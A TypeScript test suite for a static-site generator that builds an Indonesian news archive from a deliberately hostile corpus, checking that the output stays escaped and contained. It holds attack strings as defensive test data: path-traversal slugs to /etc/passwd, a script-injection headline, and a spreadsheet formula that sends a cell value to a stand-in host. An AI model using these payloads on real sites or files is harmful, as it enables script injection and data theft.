/**
 * Issue 6: the hostile corpus (tests/fixtures/hostile plus generated files) built
 * by the real CLI. Every bad file gets one line naming it and the problem; what is
 * readable survives; nothing of the hostile text executes or breaks a page, a feed,
 * JSON-LD, the search index scripts or the exports.
 */
import assert from 'node:assert/strict';
import { cpSync, existsSync, mkdtempSync, readFileSync, readdirSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { runInNewContext } from 'node:vm';
import { after, before, describe, it } from 'node:test';
import { FORMULA_START, parseStrictCsvRecords } from '../support/strict-csv.ts';
import { XMLParser, XMLValidator } from 'fast-xml-parser';
import { HtmlValidate } from 'html-validate';
import { htmlValidateConfig } from '../site/htmlvalidate.config.ts';
import { rootScript } from '../../src/site/rootScript.ts';
import { GOOD_SEED, PROJECT, type HostileProject, listTree, makeHostileProject, readJson, runCli } from './support.ts';

interface Exported {
  id: string;
  url: string;
  slug: string;
  sourceFile: string;
  title: string;
  outlet: string | null;
  authors: string[];
  editor: string | null;
  dateline: string | null;
  lead: string;
  body: { type: string; text: string }[];
  topics: string[];
  published: string | null;
  warnings: string[];
}

/** file → [status shown in the report, what its line must say]. Every file of the corpus is listed. */
const EXPECTED: Record<string, ['note' | 'ERROR' | 'ignored', RegExp]> = {
  '.tersembunyi.txt': ['ignored', /hidden file; not read/],
  'catatan.docx': ['ignored', /not a \.txt, \.md or \.html file; ignored/],
  'foto.jpg': ['ignored', /not a \.txt, \.md or \.html file; ignored/],
  'kosong.txt': ['ERROR', /: empty file; skipped$/],
  'spasi-saja.txt': ['ERROR', /: empty file \(whitespace only\); skipped$/],
  'nul.txt': ['ERROR', /binary file \(contains NUL bytes\); skipped/],
  'gambar.txt': ['ERROR', /binary file \(PNG image\); skipped/],
  'hanya-furnitur.txt': ['ERROR', /no article text \(only page furniture\); skipped/],
  'tautan-keluar.txt': ['ERROR', /symlink points outside the seeds folder; refused/],
  'tautan-passwd.txt': ['ERROR', /symlink points outside the seeds folder; refused/],
  'terkunci.txt': ['ERROR', /cannot be read: permission denied/],
  'besar-50mb.txt': ['note', /text is 52,428,\d+ characters; only the first [\d,]+ were read/],
  'satu-baris.txt': ['note', /a line of 1,050,000 characters was cut/],
  'latin-1.txt': ['note', /not valid UTF-8; decoded as Windows-1252\/Latin-1/],
  'windows-1252.txt': ['note', /not valid UTF-8; decoded as Windows-1252\/Latin-1/],
  'utf16le-bom.txt': ['note', /UTF-16LE \(with BOM\); decoded/],
  'utf16be-bom.txt': ['note', /UTF-16BE \(with BOM\); decoded/],
  'utf8-bom.txt': ['note', /published taken from/],
  'akhir-baris-campur.txt': ['note', /published taken from/],
  'yaml-rusak.md': ['note', /front matter is not valid YAML/],
  'front-matter-js.md': ['note', /front matter in "js" is not supported \(only YAML\); ignored and not run/],
  'tipe-salah.md': ['note', /"title" should be text, got number 42.*"topics" should be a list.*date "kemarin" is not a date/],
  'slug-traversal.md': ['note', /slug "\.\.\/\.\.\/etc\/passwd" contains a path/],
  'slug-absolut.md': ['note', /slug "\/etc\/passwd" is an absolute path/],
  'slug-kosong.md': ['note', /slug "" has no letters or digits/],
  'slug-tanda-baca.md': ['note', /slug "!!!\.\.\.\?\?\?" has no letters or digits/],
  'slug-panjang.md': ['note', /is longer than 80 characters/],
  'slug-con.md': ['note', /slug "con" is a reserved device name on Windows/],
  'slug-com1.md': ['note', /slug "com1" is a reserved device name on Windows/],
  'slug-nul.md': ['note', /slug "NUL" is a reserved device name on Windows/],
  'kembar-a.txt': ['note', /published taken from/],
  'kembar-b.txt': ['note', /slug "rapat-kabinet-bahas-harga-beras" is already used by kembar-a\.txt/],
  'teks-skrip.txt': ['note', /no outlet named/],
  'teks-markdown.md': ['note', /raw HTML in the Markdown body shown as text only/],
  'teks-formula.txt': ['note', /no outlet named/],
  'baik.txt': ['note', /published taken from "Senin \(3\/2\/2020\)"/],
  'halaman-skrip.html': ['note', /og:title carries markup or script .*canonical "javascript:.*" is not an http\(s\) address; ignored/],
  'halaman-bukan-html.html': ['ERROR', /: not an HTML page \(no <html>, <head> or markup at the start\); skipped$/],
  'halaman-inggris.html': ['note', /the article does not read as Indonesian \(the page says lang="en"\)/],
  'besar-50mb.html': ['note', /page is 5\d\.\d MB of text; 5\d\.\d MB of scripts, styles, comments and inline images were cut before parsing/],
};

describe('a build of the hostile corpus', () => {
  let project: HostileProject;
  let report: string[];
  let articles: Exported[];
  let pages: string[];

  before(() => {
    project = makeHostileProject({ heavy: true });
    // --verbose: a line for every seed (by default only those that need a look), and the stage timings, left out here.
    const run = runCli(['build', '--seeds', project.seeds, '--out', project.out, '--verbose'], { asNobody: true });
    assert.equal(run.status, 0, `the build succeeds despite the bad seeds:\n${run.stderr}`);
    report = run.stdout.split('\n').filter((l) => /^(?:ok|note|ERROR|ignored)\s|^\d+ files: |^Built /.test(l));
    articles = readJson<Exported[]>(join(project.out, 'data', 'articles.json'));
    pages = listTree(project.out).filter((f) => f.endsWith('.html'));
  });
  after(() => rmSync(project.root, { recursive: true, force: true }));

  it('prints one line per file, naming it and the problem', () => {
    const files = Object.keys(EXPECTED);
    for (const file of files) {
      const lines = report.filter((l) => l.split(/\s+/)[1]?.replace(/:$/, '') === file);
      assert.equal(lines.length, 1, `one line for ${file}`);
      const [status, says] = EXPECTED[file]!;
      assert.ok(lines[0]!.startsWith(`${status.padEnd(7)} ${file}`), lines[0]);
      assert.match(lines[0]!, says);
    }
    assert.equal(report.length, files.length + 2, `only these files and the summary:\n${report.join('\n')}`);
    const errors = files.filter((f) => EXPECTED[f]![0] === 'ERROR').length;
    assert.match(report.at(-2) ?? '', new RegExp(`^${files.length} files: .*, ${errors} errors, 3 ignored; .*; ${files.length - errors - 3} articles\\.$`));
  });

  it('keeps every readable article and only those; the good seed reads as it does alone', () => {
    const kept = Object.keys(EXPECTED).filter((f) => EXPECTED[f]![0] === 'note');
    assert.deepEqual(articles.map((a) => a.sourceFile).sort(), kept.sort());
    const alone = mkdtempSync(join(tmpdir(), 'arsip-alone-'));
    try {
      cpSync(GOOD_SEED, join(alone, 'seeds', 'baik.txt'));
      assert.equal(runCli(['build', '--seeds', join(alone, 'seeds'), '--out', join(alone, 'dist')]).status, 0);
      const [single] = readJson<Exported[]>(join(alone, 'dist', 'data', 'articles.json'));
      const inCorpus = articles.find((a) => a.sourceFile === 'baik.txt');
      assert.deepEqual(inCorpus, single);
      // Its page differs only where the archive around it differs (lists, related), never in the article itself.
      const page = (root: string): string => readFileSync(join(root, single!.url, 'index.html'), 'utf8').split('<article')[1]!.split('</article>')[0]!;
      assert.equal(page(project.out), page(join(alone, 'dist')));
    } finally {
      rmSync(alone, { recursive: true, force: true });
    }
  });

  it('writes every surviving article at its own page, inside the output and nowhere else', () => {
    for (const a of articles) {
      assert.match(a.url, /^artikel\/(?:\d{4}\/\d{2}|tanpa-tanggal)\/[a-z0-9-]+\/$/, a.url);
      assert.ok(existsSync(join(project.out, a.url, 'index.html')), a.url);
    }
    assert.equal(new Set(articles.map((a) => a.url)).size, articles.length, 'URLs are unique');
    assert.deepEqual(readdirSync(project.root).sort(), ['out-parent', 'rahasia.txt', 'seeds']);
    assert.match(readFileSync(join(project.root, 'rahasia.txt'), 'utf8'), /^Data Rahasia/, 'the file a symlink pointed at is untouched');
    const outside = listTree(project.out).filter((f) => f.split('/').includes('..') || f.startsWith('etc/'));
    assert.deepEqual(outside, [], 'no path escapes or lands in etc/');
    assert.ok(!JSON.stringify(articles).includes('Data Rahasia'), 'nothing read through a symlink out of the folder');
  });

  it('hostile text never becomes markup: no inline script, no event handler, no javascript: URL in any page', () => {
    const TAG = /<([a-zA-Z][a-zA-Z0-9-]*)(\s[^>]*)?>/g;
    for (const page of pages) {
      const html = readFileSync(join(project.out, page), 'utf8');
      for (const m of html.matchAll(TAG)) {
        const [tag, name, attrs = ''] = m;
        for (const [, attr, , dq, sq, bare] of attrs.matchAll(/([^\s=]+)(\s*=\s*(?:"([^"]*)"|'([^']*)'|([^\s>]+)))?/g)) {
          const value = (dq ?? sq ?? bare ?? '').replace(/&#(\d+);/g, (_, d: string) => String.fromCharCode(Number(d)));
          assert.ok(!/^on/i.test(attr!), `${page}: event handler in ${tag}`);
          if (/^(?:href|src|action|formaction)$/i.test(attr!)) assert.ok(!/^\s*javascript:/i.test(value), `${page}: javascript: URL in ${tag}`);
        }
        assert.ok(!['iframe', 'object', 'embed', 'style', 'textarea', 'base'].includes(name!.toLowerCase()), `${page}: seed markup ${tag}`);
        // 404.html's own root finder is the one inline script: exactly the project's file, allowed by its hash in the CSP.
        const finder = page === '404.html' && html.slice(m.index + tag.length).startsWith(`${rootScript().text}</script>`);
        if (name!.toLowerCase() === 'script' && !finder) assert.match(attrs, /\ssrc="[^"]+"|type="application\/ld\+json"/, `${page}: inline script ${tag}`);
      }
    }
    const article = articles.find((a) => a.sourceFile === 'teks-skrip.txt')!;
    const html = readFileSync(join(project.out, article.url, 'index.html'), 'utf8');
    assert.ok(html.includes('&lt;script&gt;window.__pwned = &#39;judul&#39;; alert(1)&lt;/script&gt; Serangan Skrip'), 'the headline shows as text');
    assert.ok(html.includes('&lt;/textarea&gt;&lt;script&gt;'), 'the body shows as text');
    assert.ok(html.includes('&amp;lt;b&amp;gt;tebal'), 'entities in the seed stay literal text, escaped once');
  });

  it('every page still passes html-validate', async () => {
    const hv = new HtmlValidate(htmlValidateConfig);
    const errors: string[] = [];
    for (const page of pages) {
      const res = await hv.validateString(readFileSync(join(project.out, page), 'utf8'), page);
      for (const r of res.results) for (const m of r.messages) errors.push(`${page}:${m.line}:${m.column} ${m.ruleId} ${m.message}`);
    }
    assert.deepEqual(errors, []);
  });

  it('JSON-LD blocks parse and carry the hostile headline exactly', () => {
    for (const a of articles) {
      const html = readFileSync(join(project.out, a.url, 'index.html'), 'utf8');
      const blocks = [...html.matchAll(/<script type="application\/ld\+json">([\s\S]*?)<\/script>/g)].map((m) => m[1]!);
      assert.equal(blocks.length, 1, a.url);
      assert.ok(!/[\u2028\u2029]/.test(blocks[0]!), 'no raw line separators');
      const ld = JSON.parse(blocks[0]!) as { headline: string };
      assert.equal(ld.headline, a.title);
    }
  });

  it('the Atom and JSON feeds parse and carry the hostile text exactly', () => {
    const xml = readFileSync(join(project.out, 'feed.xml'), 'utf8');
    assert.equal(XMLValidator.validate(xml), true);
    const atom = new XMLParser({ ignoreAttributes: false, htmlEntities: true }).parse(xml) as { feed: { entry: { title: string }[] } };
    const json = readJson<{ items: { title: string; content_html: string }[] }>(join(project.out, 'feed.json'));
    for (const file of ['teks-skrip.txt', 'teks-markdown.md', 'teks-formula.txt']) {
      const a = articles.find((x) => x.sourceFile === file)!;
      assert.ok(atom.feed.entry.some((e) => String(e.title) === a.title), `Atom has ${a.title}`);
      const item = json.items.find((i) => i.title === a.title);
      assert.ok(item, `JSON Feed has ${a.title}`);
      assert.ok(!/<script/i.test(item.content_html), 'content_html holds escaped text only');
    }
  });

  it('the search index scripts are inert data that round-trips', () => {
    const dir = join(project.out, 'search');
    const pushed = new Map<string, unknown>();
    for (const file of listTree(dir).filter((f) => f.endsWith('.js') && f !== 'cari.js' && f !== 'baca.js' /* the two client scripts */)) {
      const text = readFileSync(join(dir, file), 'utf8');
      assert.ok(!/<\/script|<!--|[\u2028\u2029]/i.test(text), `${file} is inert in any context`);
      const sandbox = { __arsip: { push: (key: string, data: unknown) => pushed.set(key, data) }, window: {} };
      runInNewContext(text, sandbox, { timeout: 1000 });
    }
    const docs = [...pushed.entries()].filter(([k]) => k.startsWith('d/')).flatMap(([, v]) => v as unknown[][]);
    for (const file of ['teks-skrip.txt', 'teks-markdown.md']) {
      const a = articles.find((x) => x.sourceFile === file)!;
      const doc = docs.find((d) => d?.[0] === a.id); // a shard has null for an empty slot
      assert.ok(doc, `${a.id} is in the document store`);
      assert.equal(doc[1], a.title);
      if (a.outlet) assert.ok(doc.includes(a.outlet), 'the hostile outlet name comes back as it was');
    }
  });

  it('exports: JSON parses, CSV parses with one row per article and no cell a spreadsheet would run', () => {
    const csv = readFileSync(join(project.out, 'data', 'articles.csv'), 'utf8');
    const rows = parseStrictCsvRecords(csv);
    assert.equal(rows.length, articles.length);
    for (const row of rows) for (const cell of Object.values(row)) assert.ok(!FORMULA_START.test(cell), `formula cell: ${cell.slice(0, 40)}`);
    const formula = rows.find((r) => r.sourceFile === 'teks-formula.txt')!;
    assert.equal(formula.title, `'=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik") Judul Formula`);
    assert.equal(formula.lead, "'+62 orang hadir, kata panitia pada Selasa (4/2/2020). Angka ini naik.");
    const json = articles.find((a) => a.sourceFile === 'teks-formula.txt')!;
    assert.equal(json.title, '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik") Judul Formula', 'JSON keeps the exact text');
    const hostile = rows.find((r) => r.sourceFile === 'teks-skrip.txt')!;
    assert.equal(hostile.title, articles.find((a) => a.sourceFile === 'teks-skrip.txt')!.title);
  });

  it('--strict turns the bad files into a non-zero exit; the clean sample seeds pass', () => {
    const strict = runCli(['build', '--seeds', project.seeds, '--out', project.out, '--strict'], { asNobody: true });
    assert.equal(strict.status, 1, 'bad files fail a strict build');
    assert.ok(existsSync(join(project.out, 'index.html')), 'the site is still written');
    const clean = mkdtempSync(join(tmpdir(), 'arsip-strict-'));
    try {
      const ok = runCli(['build', '--seeds', join(PROJECT, 'seeds'), '--out', join(clean, 'dist'), '--strict']);
      assert.equal(ok.status, 0, ok.stdout + ok.stderr);
    } finally {
      rmSync(clean, { recursive: true, force: true });
    }
  });
});
